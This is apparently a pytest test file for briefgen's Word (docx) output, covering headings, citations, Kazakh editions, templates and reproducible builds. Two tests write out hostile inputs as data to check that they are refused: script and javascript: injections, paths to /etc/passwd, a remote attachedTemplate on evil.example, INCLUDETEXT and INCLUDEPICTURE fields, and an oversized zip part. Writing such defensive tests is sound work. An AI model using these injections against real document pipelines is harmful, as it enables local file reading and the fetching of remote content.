"""The Word edition (-f docx): built from the model through Pandoc, read back with python-docx
and by unzipping, in every Word style, for the example (English and Kazakh) and the fixture."""

from __future__ import annotations

import builtins
import datetime as dt
import html
import io
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
from PIL import Image
from test_languages import english_phrases
from typer.testing import CliRunner

from briefgen import docx as word
from briefgen.citations import CITATION_GROUP_RE
from briefgen.cli import app
from briefgen.content import load_brief
from briefgen.languages import language_for
from briefgen.markdown import plain_text
from briefgen.model import SECTION_KEYS, strings_in
from briefgen.render import ordered_sections
from briefgen.styles import BUILTIN_DIR, StyleLibrary
from conftest import EXAMPLE, FIXTURES, MINI, ROOT

runner = CliRunner()
WORD_STYLES = ("memo", "standard", "analyst", "briefing-note")
EDITIONS = FIXTURES / "editions"
#: briefgen's own Word styles, which every built-in template defines.
CUSTOM_STYLES = ("KeyMessages", "Recommendation", "Scenario", "KeyFigure", "KeyFigureValue",
                 "Details", "Decision", "DocumentDetails", "Reference", "ExhibitTitle")
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def invoke(*args: str | Path):
    return runner.invoke(app, [str(a) for a in args])


def build_word(briefs: list[Path], out: Path, *extra: str) -> Path:
    styles = [arg for name in WORD_STYLES for arg in ("-s", name)]
    result = invoke("build", *briefs, "-f", "docx", *styles, "-o", out, *extra)
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def english(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example's English edition and the fixture, in every Word style."""
    return build_word([EXAMPLE, MINI], tmp_path_factory.mktemp("word-en"), "--language", "en")


@pytest.fixture(scope="module")
def kazakh(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_word([EXAMPLE], tmp_path_factory.mktemp("word-kk"), "--language", "kk")


def part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as package:
        return package.read(name).decode("utf-8")


def headings(document: docx.document.Document) -> list[tuple[int, str]]:
    """(level, text) of every Heading paragraph, Pandoc's section numbers left out."""
    found = []
    for paragraph in document.paragraphs:
        match = re.fullmatch(r"Heading (\d)", paragraph.style.name)
        if match:
            found.append((int(match[1]), re.sub(r"^[\d.]+\t", "", paragraph.text)))
    return found


def styled(document: docx.document.Document, style: str) -> list[docx.text.paragraph.Paragraph]:
    return [p for p in document.paragraphs if p.style.name == style]


def test_every_word_style_makes_a_document_word_can_open(english: Path, kazakh: Path):
    for folder, names in ((english, ("", )), (kazakh, (".kk",))):
        for brief in ("kazakhstan-multi-vector", "mini") if folder == english else (
                "kazakhstan-multi-vector",):
            for style in WORD_STYLES:
                path = folder / brief / f"{style}{names[0]}.docx"
                with zipfile.ZipFile(path) as package:
                    assert package.testzip() is None
                    assert "word/document.xml" in package.namelist()
                assert docx.Document(str(path)).paragraphs, path


def test_headings_are_the_sections_in_the_styles_order(english: Path):
    loaded = load_brief(EXAMPLE)
    brief, library = loaded.brief, StyleLibrary()
    for style in ("standard", "analyst"):
        settings = library.get(style).settings
        sections = ordered_sections(brief, settings, language_for("en"))
        expected: list[tuple[int, str]] = []
        for section in sections:
            expected.append((1, section.heading))
            if section.key in ("analysis", "implications"):
                expected += [(2, plain_text(t.title)) for t in getattr(brief, section.key)
                             if t.title]
        expected += [(1, "Sources")] if style == "standard" else [
            (1, "Bibliography"), (1, "About this publication")]
        got = headings(docx.Document(str(english / loaded.slug / f"{style}.docx")))
        assert got == expected, style


def test_the_memo_and_the_note_head_their_parts_with_their_labels(english: Path):
    memo = headings(docx.Document(str(english / "kazakhstan-multi-vector" / "memo.docx")))
    assert memo == [(1, "Bottom line"), (1, "Decision required"), (1, "Recommendations")]
    note = [text for _, text in headings(docx.Document(
        str(english / "kazakhstan-multi-vector" / "briefing-note.docx")))]
    assert note[:4] == ["Issue", "Key facts", "Points to make", "Summary"]
    assert note[-1] == "Annex: Sources"


def test_every_recommendation_is_there_and_numbered_by_word(english: Path):
    for brief_folder in (EXAMPLE, MINI):
        loaded = load_brief(brief_folder)
        titles = [plain_text(group.title) for group in loaded.brief.recommendations]
        for style in WORD_STYLES:
            path = english / loaded.slug / f"{style}.docx"
            found = styled(docx.Document(str(path)), "Recommendation")
            assert [p.text for p in found] == titles, (path, [p.text for p in found])
            numbering = {p._p.pPr.numPr.numId.val for p in found if p._p.pPr.numPr is not None}
            assert len(numbering) == 1 and len(found) == len(titles), path  # one Word list
            abstract = re.search(
                rf'<w:num w:numId="{numbering.pop()}"><w:abstractNumId w:val="(\d+)"',
                part(path, "word/numbering.xml"))[1]
            level = re.search(rf'<w:abstractNum w:abstractNumId="{abstract}">.*?</w:lvl>',
                              part(path, "word/numbering.xml"), re.S)[0]
            assert '<w:numFmt w:val="decimal"' in level and "%1." in level, path


def printed_citation_groups(brief_folder: Path, style: str) -> int:
    """Citation groups in what `style` prints: its sections, the key figures, and the
    figures' and tables' words (their alt text is not printed as text)."""
    brief = load_brief(brief_folder).brief
    settings = StyleLibrary().get(style).settings
    texts = [t for key in settings.sections if key in SECTION_KEYS
             for t in strings_in(getattr(brief, key))]
    texts += [t for extra in brief.extras for t in strings_in(extra)]
    texts += [t for figure in brief.key_figures for t in strings_in(figure)]
    texts += [t for exhibit in (*brief.figures, *brief.tables)
              for t in (exhibit.title, exhibit.caption, exhibit.cite or "", exhibit.notes or "")]
    return sum(len(CITATION_GROUP_RE.findall(t)) for t in texts)


def footnote_count(path: Path) -> int:
    ids = re.findall(r'<w:footnote\b[^>]*w:id="(-?\d+)"', part(path, "word/footnotes.xml"))
    return sum(int(i) > 0 for i in ids)  # -1 and 0 are Word's separators


def test_the_analyst_cites_in_real_footnotes_one_per_citation(english: Path):
    for brief_folder in (EXAMPLE, MINI):
        path = english / brief_folder.name / "analyst.docx"
        expected = printed_citation_groups(brief_folder, "analyst")
        assert expected >= 3
        assert footnote_count(path) == expected, path
        references = part(path, "word/document.xml").count("<w:footnoteReference ")
        assert references == expected
    # The numbered styles cite with superscript numbers, not notes.
    assert footnote_count(english / "kazakhstan-multi-vector" / "standard.docx") == 0
    assert "<w:vertAlign w:val=\"superscript\"/>" in part(
        english / "kazakhstan-multi-vector" / "standard.docx", "word/document.xml").replace(
        " />", "/>")


def test_document_properties_come_from_the_brief(english: Path, kazakh: Path):
    for folder, edition, language in ((english, "", "en"), (kazakh, ".kk", "kk")):
        brief = load_brief(EXAMPLE if not edition else EXAMPLE / "brief.kk.md").brief
        for style in WORD_STYLES:
            path = folder / "kazakhstan-multi-vector" / f"{style}{edition}.docx"
            core = docx.Document(str(path)).core_properties
            assert core.title == brief.title
            assert core.author == "; ".join(a.name for a in brief.authors)
            assert core.language == language
            assert core.created == core.modified == dt.datetime.combine(brief.date, dt.time(),
                                                                         dt.UTC)
            assert core.keywords == ", ".join(brief.keywords)
            custom = part(path, "docProps/custom.xml")
            assert f'name="classification"><vt:lpwstr>{brief.classification}<' in custom
            assert f'w:val="{language}"' in re.search(r"<w:lang [^>]*>",
                                                     part(path, "word/styles.xml"))[0]


def test_every_style_defines_and_uses_the_briefs_word_styles(english: Path):
    for style in WORD_STYLES:
        path = english / "kazakhstan-multi-vector" / f"{style}.docx"
        styles = part(path, "word/styles.xml")
        for style_id in CUSTOM_STYLES:
            assert f'w:styleId="{style_id}"' in styles, (style, style_id)
        used = {p.style.name for p in docx.Document(str(path)).paragraphs}
        assert {"Title", "Subtitle", "Recommendation", "Details"} <= used, style
        # The briefing note states its key figures as facts, in a numbered paragraph.
        assert ("Key Figure" in used) == (style != "briefing-note"), style
    standard = docx.Document(str(english / "kazakhstan-multi-vector" / "standard.docx"))
    figures = [p.text for p in styled(standard, "Key Figure")]
    assert figures[2].startswith("$50\u00a0billion"), figures  # a value never breaks
    analyst = docx.Document(str(english / "kazakhstan-multi-vector" / "analyst.docx"))
    assert len(styled(analyst, "Scenario")) == len(load_brief(EXAMPLE).brief.assessments)
    assert styled(analyst, "Key Messages")


def test_the_briefing_note_marks_its_classification_on_every_page(english: Path):
    path = english / "mini" / "briefing-note.docx"
    for name in ("word/header1.xml", "word/footer1.xml"):
        # A field (an editor who changes the property updates it), showing the brief's value.
        field = re.search(r"<w:fldSimple [^>]*DOCPROPERTY classification.*?</w:fldSimple>",
                          part(path, name))[0]
        assert "<w:t>PUBLIC</w:t>" in field, name
    numbered = styled(docx.Document(str(path)), "Numbered Paragraph")
    assert len(numbered) >= 5  # the note's paragraphs are numbered, as on paper


def test_the_analyst_edition_has_a_contents_field(english: Path, kazakh: Path):
    xml = part(english / "kazakhstan-multi-vector" / "analyst.docx", "word/document.xml")
    assert 'TOC \\o &quot;1-2&quot;' in xml and 'w:dirty="true"' in xml
    assert '<w:pStyle w:val="TOC1"/>' in xml and "1 Introduction" in xml  # its entries
    kk = part(kazakh / "kazakhstan-multi-vector" / "analyst.kk.docx", "word/document.xml")
    assert re.search(r'<w:pStyle w:val="TOCHeading" />.*?<w:t[^>]*>Мазмұны</w:t>', kk)
    standard = part(english / "kazakhstan-multi-vector" / "standard.docx", "word/document.xml")
    assert "TOC \\o" not in standard


def test_the_kazakh_edition_speaks_kazakh(kazakh: Path):
    labels = language_for("kk").labels
    folder = kazakh / "kazakhstan-multi-vector"
    standard = docx.Document(str(folder / "standard.kk.docx"))
    details = " ".join(p.text for p in styled(standard, "Details"))
    for label in ("priority", "lead", "timeframe"):
        assert str(labels[label]) in details, label
    assert headings(standard)[-1] == (1, str(labels["sources"]))
    figure = str(labels["figure"])
    assert any(p.text.startswith(f"{figure}\u00a01.") for p in styled(standard, "Exhibit Title"))
    memo = docx.Document(str(folder / "memo.kk.docx"))
    assert [t for _, t in headings(memo)][:2] == [str(labels["bottom_line"]),
                                                 str(labels["decision_required"])]
    english_words = {"Priority", "Lead", "Timeframe", "Sources", "Figure"}
    all_text = " ".join(p.text for p in standard.paragraphs)
    assert not {w for w in english_words if re.search(rf"\b{w}\b", all_text)}


def test_charts_are_embedded_as_pictures_word_shows(english: Path):
    path = english / "kazakhstan-multi-vector" / "standard.docx"
    with zipfile.ZipFile(path) as package:
        media = [n for n in package.namelist() if n.startswith("word/media/")]
        assert len(media) == len(load_brief(EXAMPLE).brief.figures)
        for name in media:
            with Image.open(io.BytesIO(package.read(name))) as picture:
                assert picture.format == "PNG" and picture.width >= 1000
    xml = part(path, "word/document.xml")
    assert "data:image" not in xml  # the bytes are in word/media only
    assert 'descr="A bar chart of Kazakhstan' in xml  # the alt text, for screen readers


def test_two_builds_are_byte_identical(tmp_path: Path):
    first = build_word([MINI], tmp_path / "one")
    second = build_word([MINI], tmp_path / "two", "--force")
    for style in WORD_STYLES:
        a = (first / "mini" / f"{style}.docx").read_bytes()
        b = (second / "mini" / f"{style}.docx").read_bytes()
        assert a == b, style
        with zipfile.ZipFile(io.BytesIO(a)) as package:  # no clock in it, whenever it is built
            assert {item.date_time for item in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_the_committed_templates_are_what_the_script_makes():
    result = subprocess.run([sys.executable, ROOT / "scripts" / "make-reference-docx.py",
                             "--check"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    for style in WORD_STYLES:
        assert (BUILTIN_DIR / style / "reference.docx").is_file()


HOSTILE = """
Raw <script>alert(1)</script> and <b onclick=x()>bold</b> stay text.

<w:p><w:r><w:t>injected paragraph</w:t></w:r></w:p>

An image ![secret](/etc/passwd) and ![up](../../outside.png), a [link](file:///etc/passwd),
a [script](javascript:alert(1)), [notes](notes.txt) and a [web page](https://example.org/report).
"""


def test_a_hostile_brief_is_inert_text_and_reads_no_file(mini: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch):
    brief = mini / "brief.md"
    brief.write_text(brief.read_text(encoding="utf-8").replace(
        "Cooperation starts with data.", "Cooperation starts with data.\n" + HOSTILE),
        encoding="utf-8")
    opened: list[str] = []
    real_open = io.open

    def recording_open(file, *args, **kwargs):
        opened.append(str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", recording_open)
    monkeypatch.setattr(io, "open", recording_open)
    # In this process (no workers), so that every file the build opens is seen.
    result = invoke("build", mini, "-f", "docx", "-s", "standard", "-o", tmp_path / "out",
                    "--render-timeout", "0", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert not [name for name in opened if "passwd" in name or "outside" in name], opened
    assert "image '/etc/passwd' refused" in " ".join(result.output.split())
    path = tmp_path / "out" / "mini" / "standard.docx"
    text = "\n".join(p.text for p in docx.Document(str(path)).paragraphs)
    assert "Raw <script>alert(1)</script> and <b onclick=x()>bold</b> stay text." in text
    assert "<w:p><w:r><w:t>injected paragraph</w:t></w:r></w:p>" in text
    assert "[image not included: secret]" in text and "[link](file:///etc/passwd)" in text
    xml = part(path, "word/document.xml")
    assert "<w:t>injected" not in xml and "<script" not in xml
    with zipfile.ZipFile(path) as package:
        assert not [n for n in package.namelist() if n.startswith("word/media/")]
        rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
    assert "https://example.org/report" in rels
    assert "file:" not in rels and "javascript" not in rels and "notes.txt" not in rels


def test_figures_images_and_tables_of_a_brief(mini: Path, tmp_path: Path):
    Image.new("RGB", (40, 20), (200, 30, 30)).save(mini / "map.png")
    (mini / "map.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"/>', encoding="utf-8")
    brief = mini / "brief.md"
    brief.write_text(brief.read_text(encoding="utf-8").replace("language: en\n", """language: en
figures:
  - {id: basin, title: The basin, alt: A map of the basin, image: map.png, cite: "[@basin-note]"}
  - {id: sketch, title: A sketch, alt: A sketch of the dams, image: map.svg}
tables:
  - id: flows
    title: Releases by season
    columns: [{name: season}, {name: volume, title: Volume (km³), format: number, decimals: 1}]
    data: [{season: Winter, volume: 1416.26}, {season: Summer, volume: 3}]
""").replace("Gauging stations are too few.", "Gauging stations are too few (@tbl:flows, "
             "@fig:basin)."), encoding="utf-8")
    result = invoke("build", mini, "-f", "docx", "-s", "standard", "-o", tmp_path)
    assert result.exit_code == 0, result.output
    assert "'map.svg' refused: the Word edition embeds PNG, JPEG and GIF images" in " ".join(
        result.output.split())
    document = docx.Document(str(tmp_path / "mini" / "standard.docx"))
    table = document.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["season", "Volume (km³)"]
    assert [c.text for c in table.rows[1].cells] == ["Winter", "1,416.3"]
    assert len(document.inline_shapes) == 1
    titles = [p.text for p in styled(document, "Exhibit Title")]
    assert titles[:2] == ["Table\u00a01. Releases by season", "Figure\u00a01. The basin"]
    assert "[image not included: A sketch of the dams]" in "\n".join(
        p.text for p in document.paragraphs)


HOUSE_FIELD = (b'<w:r><w:t>HOUSE</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               b'<w:r><w:instrText xml:space="preserve"> DOCPROPERTY  Classification '
               b'\\* MERGEFORMAT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
               b"</w:r><w:r><w:t>SECR</w:t></w:r><w:r><w:t>ET</w:t></w:r>"
               b'<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def test_a_house_word_template_from_the_style_chain(mini: Path, tmp_path: Path):
    house = tmp_path / "styles" / "house"
    house.mkdir(parents=True)
    (house / "style.yaml").write_text("name: house\nextends: standard\n"
                                      "reference_docx: ours.docx\n", encoding="utf-8")
    with zipfile.ZipFile(BUILTIN_DIR / "standard" / "reference.docx") as source, \
            zipfile.ZipFile(house / "ours.docx", "w") as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "word/header1.xml":  # and a field as Word writes one by hand
                data = data.replace(b"<w:fldSimple", HOUSE_FIELD + b"<w:fldSimple")
            target.writestr(item, data)
    result = invoke("build", mini, "-f", "docx", "-s", "house", "-o", tmp_path / "out",
                    "--templates", tmp_path / "styles")
    assert result.exit_code == 0, result.output
    header = part(tmp_path / "out" / "mini" / "house.docx", "word/header1.xml")
    assert re.search(r"<w:t>HOUSE</w:t>.*separate.*<w:t>PUBLIC</w:t></w:r><w:r><w:t></w:t>"
                     r".*<w:t>Water Sharing on the Syr Darya</w:t>", header)
    # A style that extends ours without a template of its own gets ours.
    (house / "style.yaml").write_text("name: house\nextends: briefing-note\n", encoding="utf-8")
    assert invoke("build", mini, "-f", "docx", "-s", "house", "-o", tmp_path / "out",
                  "--templates", tmp_path / "styles").exit_code == 0
    assert "DOCPROPERTY classification" in part(tmp_path / "out" / "mini" / "house.docx",
                                                "word/header1.xml")


def test_a_template_outside_its_folder_or_not_word_is_a_located_error(mini: Path,
                                                                      tmp_path: Path):
    house = tmp_path / "styles" / "house"
    house.mkdir(parents=True)
    shutil.copy(BUILTIN_DIR / "standard" / "reference.docx", tmp_path / "styles")
    (house / "style.yaml").write_text("name: house\nextends: standard\n"
                                      "reference_docx: ../reference.docx\n", encoding="utf-8")
    result = invoke("build", mini, "-f", "docx", "-s", "house", "-o", tmp_path / "out",
                    "--templates", tmp_path / "styles")
    output = " ".join(result.output.split())
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert (f"{house / 'style.yaml'} (reference_docx): '{house / '../reference.docx'}' leads "
            f"outside the style folder {house}") in output
    (house / "style.yaml").write_text("name: house\nextends: standard\n"
                                      "reference_docx: ours.docx\n", encoding="utf-8")
    with zipfile.ZipFile(house / "ours.docx", "w") as package:  # Word's, but broken
        package.writestr("word/styles.xml", "<w:styles><unclosed>")
    result = invoke("build", mini, "-f", "docx", "-s", "house", "-o", tmp_path / "out",
                    "--templates", tmp_path / "styles")
    output = " ".join(result.output.split())
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{house / 'ours.docx'} (format): Pandoc could not write the Word edition" in output


def test_without_pandoc_a_word_build_names_the_extra(mini: Path, tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(sys.modules, "pypandoc", None)  # `import pypandoc` fails
    word.pandoc_version.cache_clear()
    try:
        result = invoke("build", mini, "-f", "docx", "-s", "memo", "-o", tmp_path,
                        "--render-timeout", "0", "--jobs", "1")
    finally:
        word.pandoc_version.cache_clear()
    output = " ".join(result.output.split())
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{mini / 'brief.md'} (format): the Word edition (-f docx) needs Pandoc" in output
    assert "pip install 'briefgen[docx]'" in output


def test_another_pandoc_rebuilds_the_word_edition(mini: Path, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch):
    args = ("build", mini, "-f", "docx", "-s", "memo", "-o", tmp_path, "--render-timeout", "0",
            "--jobs", "1")
    assert invoke(*args).exit_code == 0
    assert "(unchanged)" in invoke(*args).output
    monkeypatch.setattr(word, "pandoc_version", lambda: "99.0")
    rebuilt = invoke(*args)
    assert rebuilt.exit_code == 0 and "(unchanged)" not in rebuilt.output


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_lays_the_word_edition_out_as_a_finished_document(english: Path,
                                                                      tmp_path: Path):
    from pypdf import PdfReader

    source = english / "kazakhstan-multi-vector" / "memo.docx"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "pdf", "--outdir", tmp_path, source],
                   capture_output=True, timeout=180, check=True)
    reader = PdfReader(tmp_path / "memo.pdf")
    assert len(reader.pages) == 1  # the memo keeps to one page in Word too
    page = " ".join(reader.pages[0].extract_text().split())
    brief = load_brief(EXAMPLE).brief
    assert brief.title in page and "PUBLIC" in page  # the title, and the footer's field
    for group in brief.recommendations:
        assert plain_text(group.title) in page


def word_text(path: Path) -> str:
    """What a reader of the document meets: the text of its body, notes, header and footer,
    and its pictures' descriptions (what a screen reader says)."""
    found: list[str] = []
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if re.fullmatch(r"word/(document|footnotes|header\d*|footer\d*)\.xml", name):
                xml = package.read(name).decode("utf-8")
                found += ["".join(re.findall(r"<w:t(?:\s[^>]*)?>([^<]*)</w:t>", paragraph))
                          for paragraph in re.findall(r"<w:p[ >].*?</w:p>", xml, re.S)]
                found += re.findall(r'<wp:docPr [^>]*descr="([^"]*)"', xml)
    return " ".join(html.unescape(" ".join(found)).split())


@pytest.mark.parametrize("code", ["ru", "kk"])
def test_no_english_label_is_left_in_a_russian_or_kazakh_word_edition(code: str,
                                                                      tmp_path: Path):
    out = build_word([EDITIONS], tmp_path, "--language", code)
    phrases = english_phrases()
    paths = sorted((out / "editions").glob(f"*.{code}.docx"))
    assert len(paths) == len(WORD_STYLES)
    for path in paths:
        text = word_text(path)
        assert len(text) > 500
        left = [p for p in phrases
                if re.search(rf"(?<![A-Za-z]){re.escape(p)}(?![A-Za-z])", text)]
        assert left == [], f"{path.name} still says {left}"


@pytest.mark.parametrize("mode", ["numbered", "endnotes", "footnotes", "author-date"])
def test_every_citation_mode_cites_in_word(mode: str, tmp_path: Path):
    house = tmp_path / "styles" / "house"
    house.mkdir(parents=True)
    (house / "style.yaml").write_text(f"name: house\nextends: standard\ncitations: {mode}\n",
                                      encoding="utf-8")
    result = invoke("build", MINI, "-f", "docx", "-s", "house", "-o", tmp_path / "out",
                    "--templates", tmp_path / "styles")
    assert result.exit_code == 0, result.output
    path = tmp_path / "out" / "mini" / "house.docx"
    notes = footnote_count(path)
    assert notes == (printed_citation_groups(MINI, "standard")
                     if mode in ("endnotes", "footnotes") else 0)
    text = word_text(path)
    if mode == "author-date":
        assert "(Author 2020, p. 4)" in text  # "[@water-report, p. 4]"
    # The reference list: numbered in citation order, else a bibliography by author.
    listed = [p for p in docx.Document(str(path)).paragraphs if p.style.name == "Reference"]
    assert listed[0].text.startswith("Author, A. Water and Power in the Syr Darya Basin")
    numbering = [p._p.pPr.numPr is not None for p in listed]
    assert all(numbering) if mode == "numbered" else not any(numbering)


def test_pandoc_is_held_to_a_time_and_a_size(mini: Path, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch):
    args = ("build", mini, "-f", "docx", "-s", "standard", "-o", tmp_path, "--force",
            "--render-timeout", "0", "--jobs", "1")
    monkeypatch.setattr(word, "PANDOC_TIMEOUT", 0.001)
    slow = invoke(*args)
    assert slow.exit_code == 1 and "Traceback" not in slow.output
    assert f"{mini / 'brief.md'} (format): Pandoc took longer than 0.001 s" in " ".join(
        slow.output.split())
    monkeypatch.setattr(word, "PANDOC_TIMEOUT", 120)
    monkeypatch.setattr(word, "MAX_DOCX_BYTES", 1000)
    large = invoke(*args)
    assert large.exit_code == 1 and "Traceback" not in large.output
    assert "bytes, over the limit of 1,000" in " ".join(large.output.split())
    assert not (tmp_path / "mini" / "standard.docx").exists()  # nothing half-made is left


def _template_with(tmp_path: Path, changes: dict[str, bytes]) -> Path:
    """A style `house` whose reference.docx is the standard one with `changes` to its parts."""
    folder = tmp_path / "styles" / "house"
    folder.mkdir(parents=True)
    (folder / "style.yaml").write_text("extends: standard\nreference_docx: reference.docx\n",
                                       encoding="utf-8")
    source = Path(word.__file__).resolve().parent.parent / "templates" / "standard"
    with zipfile.ZipFile(source / "reference.docx") as original, \
            zipfile.ZipFile(folder / "reference.docx", "w", zipfile.ZIP_DEFLATED) as copy:
        for part in original.infolist():
            copy.writestr(part.filename, changes.pop(part.filename, original.read(part)))
        for name, data in changes.items():
            copy.writestr(name, data)
    return tmp_path / "styles"


@pytest.mark.parametrize(("changes", "said"), [
    ({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="rIdT" Type="http://'
      b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
      b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'},
     "reaches outside itself"),
    ({"word/header9.xml": b'<w:hdr><w:p><w:fldSimple w:instr=\'INCLUDETEXT "/etc/passwd"\'/>'
      b"</w:p></w:hdr>"}, "reaches outside itself"),
    ({"word/header9.xml": b"<w:hdr><w:p><w:r><w:instrText>INCLUDEPIC</w:instrText></w:r><w:r>"
      b'<w:instrText>TURE "http://x/y.png"</w:instrText></w:r></w:p></w:hdr>'}, "INCLUDE"),
    ({"word/bomb.xml": b" " * (word.MAX_TEMPLATE_UNPACKED + 1)}, "unpacks to more than"),
])
def test_a_word_template_that_reaches_outside_itself_is_refused(tmp_path: Path, changes: dict,
                                                                said: str):
    styles = _template_with(tmp_path, dict(changes))
    result = CliRunner().invoke(app, ["build", str(MINI), "-f", "docx", "-s", "house",
                                      "--templates", str(styles), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert said in result.output and "reference_docx" in result.output
    assert not (tmp_path / "out" / "mini" / "house.docx").exists()


def test_headings_written_inside_a_passage_sit_one_level_under_it(mini: Path, tmp_path: Path):
    from test_pdf_variants import with_sub_headings

    build_word([with_sub_headings(mini)], tmp_path)
    document = docx.Document(str(tmp_path / "mini" / "analyst.docx"))
    levels = {text: level for level, text in headings(document)}
    assert levels["The 1992 agreement"] == levels["Background"] + 1
    assert levels["In winter"] == levels["Releases follow power demand"] + 1
